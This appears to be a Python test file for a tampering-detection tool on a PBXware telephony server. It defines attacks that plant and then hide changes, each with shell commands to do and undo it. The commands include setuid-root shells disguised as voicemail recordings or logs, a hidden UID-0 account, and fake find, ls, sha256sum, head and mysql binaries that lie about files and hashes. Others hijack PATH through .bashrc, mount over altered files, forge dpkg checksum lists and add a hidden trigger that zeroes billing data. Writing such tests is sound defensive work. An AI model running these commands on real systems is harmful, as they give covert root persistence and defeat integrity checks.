"""Attempts to hide a modification from whoever looks, and what has to be said all the same.

Each plants something, then hides it. It is found out where a finding has one of the marks, or where two ways of looking
are said to disagree; `undo` leaves the system as it was, but for times.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.faults.drift.deeds import GUI, PW, Mark

PLANT = "/usr/local/bin/planted"
FILE = f"{GUI}/login.php"
TOOL = "/usr/share/bash-completion/completions/mesg"


@dataclass(frozen=True)
class Trick:
    """One attempt. `disagreeing` are words of which one must stand in a disagreement, where no finding has a mark."""

    name: str
    hide: str
    undo: str
    marks: tuple[Mark, ...]
    disagreeing: tuple[str, ...] = ()


def _files(*paths: str) -> tuple[Mark, ...]:
    return tuple(Mark("files", path) for path in paths)


PLANTED = f"printf '#!/bin/sh\\nexit 0\\n' >{PLANT}; chmod 4755 {PLANT}\n"
GONE = f"rm -f {PLANT}\n"
# Below /run/kept lie the real tools, and what they said before: no look enters it.
RECORD = r"%p\0%y %s %m %U %G %T@ %C@ %i %D %n %l\0"
# A find that leaves the plant out of every answer, and tells of itself and of the folders what was true before.
SILENT_FIND = r"""
my $pairs = grep { /%p.0%y/ } @ARGV;
my %old; open my $kept, '<', '/run/kept/records' or die; { local $/; my @all = split /\0/, <$kept>, -1;
while (@all > 1) { my ($path, $told) = splice @all, 0, 2; $old{$path} = $told; } }
open my $real, '-|', '/run/kept/find', @ARGV or die; binmode $real;
local $/ = (grep { /\\0|print0/ } @ARGV) ? "\0" : "\n";
while (defined(my $path = <$real>)) {
  my $told = $pairs ? <$real> : ''; (my $bare = $path) =~ s/[\0\n]$//;
  next if $bare =~ /planted/; $told = "$old{$bare}\0" if $pairs and exists $old{$bare}; print $path, $told; }
close $real; exit $? >> 8;
"""
# Lines of sums: of these files the old one is told.
OLD_SUMS = "awk 'NR == FNR { old[$2] = $1; next } $2 in old { $0 = old[$2] \"  \" $2 } { print }' /run/kept/sums -"
# The same length, other letters, and the times put back: all that tells of it is the ctime, and the content.
SWAPPED = (
    f"cp -p {FILE} /run/kept/login; touch -r {FILE} /run/kept/times; tr a-m n-z </run/kept/login >{FILE}; "
    f"touch -r /run/kept/times {FILE}\n"
)
BACK = f"cp -p /run/kept/login {FILE}\n"


def _replaced(tool: str, body: str, interpreter: str = "/bin/sh") -> tuple[str, str]:
    """A fake in a tool's place, of its size and with its times as far as they can be had; and the way back."""
    hide = (
        f"tool=$(readlink -f $(command -v {tool})); cp -p $tool /run/kept/{tool}; cp -p $tool $tool.new; "
        f"printf '%s\n' '#!{interpreter}' {_quoted(body)} >$tool.new; "
        # A name in place of a name: programs that run keep theirs. Zeros behind the end are no line of a script.
        f"echo exit >>$tool.new; truncate -r /run/kept/{tool} $tool.new; "
        f"touch -r /run/kept/{tool} $tool.new; mv $tool.new $tool\n"
    )
    undo = f"tool=$(readlink -f $(command -v {tool})); cp -p /run/kept/{tool} $tool.new; mv $tool.new $tool\n"
    return hide, undo


def _recorded(paths: str) -> str:
    """Keeps what find tells of these before anything is done."""
    return f"find {paths} -maxdepth 0 -printf '{RECORD}' >/run/kept/records\n"


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


HIDDEN_TRIGGER = "CREATE TRIGGER planted_hidden BEFORE INSERT ON cdr FOR EACH ROW SET NEW.billsec = 0"
CLIENT = "/opt/pbxware/sh/mysql"
SQL = f"{CLIENT} pbxware -e"
INFO = "/var/lib/dpkg/info/tzdata"


def tricks() -> tuple[Trick, ...]:
    """All of them, in an order in which each leaves the next a clean system."""
    find, find_back = _replaced("find", SILENT_FIND + "__END__", "/usr/bin/perl")
    find = f"{_recorded('/usr/local/bin /usr/bin /bin /bin/ls /usr/bin/find')}{PLANTED}{find}"
    lister, lister_back = _replaced("ls", "/run/kept/ls \"$@\" | sed '/planted/d'; exit 0")
    hasher, hasher_back = _replaced("sha256sum", f'/run/kept/sha256sum "$@" | {OLD_SUMS}; exit 0')
    hasher = (
        f"sha256sum {FILE} $(command -v sha256sum) $(readlink -f $(command -v head)) >/run/kept/sums\n{SWAPPED}{hasher}"
    )
    header, header_back = _replaced(
        "head",
        "for last; do :; done; case $last in "
        '*/sha256sum | */head) set -- "$1" "$2" "/run/kept/${last##*/}" ;; '
        '*/login.php) set -- "$1" "$2" /run/kept/login ;; esac; exec /run/kept/head "$@"',
    )
    return (
        Trick("same size, time put back", SWAPPED, BACK, _files(FILE)),
        Trick(
            "old file mounted over the changed one",
            f"cp -p {FILE} /run/kept/login; echo '// open' >>{FILE}; mount --bind /run/kept/login {FILE}",
            f"umount {FILE}; {BACK}",
            (Mark("mounts", FILE),),
            ("mount",),
        ),
        Trick(
            "file beneath a mount",
            "mkdir -p /srv/quiet; echo x >/srv/quiet/planted; mount -t tmpfs none /srv/quiet",
            "umount /srv/quiet; rm -r /srv/quiet",
            (Mark("mounts", "/srv/quiet"),),
            ("mount",),
        ),
        Trick(
            "folder mounted over the product's",
            f"cp -a {GUI} /run/kept/gui; echo '// open' >>{FILE}; mount --bind /run/kept/gui {GUI}",
            f"umount {GUI}; cp -p /run/kept/gui/login.php {FILE}; rm -r /run/kept/gui",
            (Mark("mounts", GUI),),
            ("mount",),
        ),
        Trick("find that keeps silent", find, find_back + GONE, (), ("find",)),
        Trick("find and ls that keep silent", find + lister, find_back + lister_back + GONE, (), ("find",)),
        Trick("sha256sum that tells the old sum", hasher, hasher_back + BACK, (), ("sha256sum",)),
        Trick(
            "sha256sum and head that tell the old file", hasher + header, header_back + hasher_back + BACK, (),
            ("sha256sum", "SHA-256"),
        ),
        Trick(
            "another find, earlier on the way",
            f"{_recorded('/usr/local/bin /root /root/.bashrc')}{PLANTED}"
            "cp -p $(command -v find) /run/kept/find; mkdir -p /run/kept/way; "
            f"printf '%s\n' '#!/usr/bin/perl' {_quoted(SILENT_FIND)} >/run/kept/way/find; "
            "chmod 755 /run/kept/way/find; "
            f"cp -p /root/.bashrc /run/kept/bashrc; sed -i '1iexport PATH=/run/kept/way:$PATH' /root/.bashrc",
            f"cp -p /run/kept/bashrc /root/.bashrc; rm -r /run/kept/way\n{GONE}",
            (),
            ("find",),
        ),
        Trick(
            "client that swallows a trigger",
            f'{SQL} "{HIDDEN_TRIGGER}"; cp -p {CLIENT} /run/kept/mysql; '
            "printf '#!/bin/sh\\nchroot /opt/pbxware/pw /usr/bin/mysql \"$@\" | sed /planted_hidden/d\\n' "
            f">{CLIENT}",
            f"cp -p /run/kept/mysql {CLIENT}; {SQL} 'DROP TRIGGER planted_hidden'",
            (Mark("triggers", "*planted_hidden*", glob=True), *_files(CLIENT)),
            ("mysql",),
        ),
        Trick(
            "the package's own list of hashes made to fit",
            f"cp -p {TOOL} /run/kept/tool; "
            f"old=$(md5sum <{TOOL} | cut -c1-32); echo '# open' >>{TOOL}; new=$(md5sum <{TOOL} | cut -c1-32); "
            "for list in /var/lib/dpkg/info/*.md5sums; do grep -q $old $list && cp -p $list /run/kept/md5 && "
            "echo $list >/run/kept/md5.name && sed -i s/$old/$new/ $list && touch -r /run/kept/md5 $list; done; "
            "test -s /run/kept/md5.name",
            f"cp -p /run/kept/tool {TOOL}; cp -p /run/kept/md5 $(cat /run/kept/md5.name); rm /run/kept/md5.name",
            _files(TOOL),
        ),
        Trick(
            "a package's list that claims the file",
            f"{PLANTED}cp -p {INFO}.list /run/kept/list; cp -p {INFO}.md5sums /run/kept/md5; "
            f"echo {PLANT} >>{INFO}.list; echo \"$(md5sum <{PLANT} | cut -c1-32)  {PLANT[1:]}\" >>{INFO}.md5sums",
            f"cp -p /run/kept/list {INFO}.list; cp -p /run/kept/md5 {INFO}.md5sums\n{GONE}",
            _files(PLANT),
        ),
        Trick(
            "dressed as the product's data",
            f"install -m 4755 -o root /bin/dash {PW}/var/spool/asterisk/voicemail/200/call.wav",
            f"rm {PW}/var/spool/asterisk/voicemail/200/call.wav",
            _files(f"{PW}/var/spool/asterisk/voicemail/200/call.wav"),
        ),
        Trick(
            "dressed as a recording",
            f"install -D -m 4755 -o root /bin/dash {PW}/var/spool/asterisk/monitor/200/2026/call.wav",
            f"rm -r {PW}/var/spool/asterisk/monitor/200/2026/call.wav",
            _files(f"{PW}/var/spool/asterisk/monitor/200/2026/call.wav"),
        ),
        Trick(
            "dressed as a rotated log",
            "install -m 4755 -o root /bin/dash /var/log/sshd.log.1",
            "rm /var/log/sshd.log.1",
            _files("/var/log/sshd.log.1"),
        ),
        Trick(
            "an account with a package's name",
            "printf 'messagebus:x:0:0::/root:/bin/sh\\n' >>/etc/passwd",
            "sed -i '/^messagebus:x:0:0/d' /etc/passwd",
            (Mark("users", "messagebus*", glob=True),),
        ),
    )  # fmt: skip
